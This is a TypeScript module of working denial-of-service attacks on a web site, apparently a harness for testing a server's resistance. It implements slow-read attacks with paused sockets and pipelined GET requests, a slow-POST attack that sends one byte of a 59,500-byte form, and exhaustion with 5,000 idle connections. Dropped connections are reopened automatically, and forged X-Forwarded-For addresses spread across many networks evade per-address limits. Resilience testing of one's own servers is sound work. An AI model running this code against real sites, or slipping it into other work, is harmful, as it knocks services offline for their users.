import { connect, type Socket } from 'node:net';

/** An attack on a site: `begin` opens it, and what it returns ends it. */
export interface Attack {
  name: string;
  begin: (site: URL) => () => void;
}

/** Milliseconds after which a connection that was ended is opened again. */
const AGAIN_MS = 5000;

/** Opens connections that stay open, again where they are ended: so many at any time. */
function holdOpen(site: URL, count: number, onOpen: (socket: Socket, index: number) => void): () => void {
  const open = new Set<Socket>();
  let isOver = false;
  const add = (index: number) => {
    if (isOver) return;
    const socket = connect(Number(site.port || 80), site.hostname);
    open.add(socket);
    socket.once('connect', () => onOpen(socket, index));
    socket.on('error', () => undefined);
    socket.once('close', () => {
      open.delete(socket);
      setTimeout(() => add(index), AGAIN_MS);
    });
  };
  for (let index = 0; index < count; index += 1) add(index);
  return () => {
    isOver = true;
    for (const socket of open) socket.destroy();
  };
}

/** Headers of somebody behind a proxy on this machine, who names their address. */
const from = (site: URL, address: string) =>
  `Host: ${site.host}\r\nX-Forwarded-For: ${address}\r\nAccept: text/html\r\n`;
const ONE_NETWORK = '203.0.113.7';

const readers = (name: string, path: string, requests: number, addressOf: (index: number) => string): Attack => ({
  name,
  begin: (site) =>
    holdOpen(site, 140, (socket, index) => {
      socket.pause();
      socket.write(`GET ${path} HTTP/1.1\r\n${from(site, addressOf(index))}\r\n`.repeat(requests));
    }),
});

/** What is tried: readers that do not read, forms that do not come, connections that say nothing. */
export const attacks: readonly Attack[] = [
  readers('140 readers of 60 pages that do not read', '/', 60, () => ONE_NETWORK),
  readers('140 such readers of the api', '/api/programs', 60, () => ONE_NETWORK),
  readers('140 such readers, each of a network', '/', 60, (index) => `203.0.${index}.7`),
  {
    name: '500 forms of which one byte comes',
    begin: (site) =>
      holdOpen(site, 500, (socket) =>
        socket
          .resume()
          .write(
            `POST /contact HTTP/1.1\r\n${from(site, ONE_NETWORK)}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 59500\r\n\r\na`,
          ),
      ),
  },
  { name: '5,000 connections that say nothing', begin: (site) => holdOpen(site, 5000, (socket) => socket.resume()) },
];
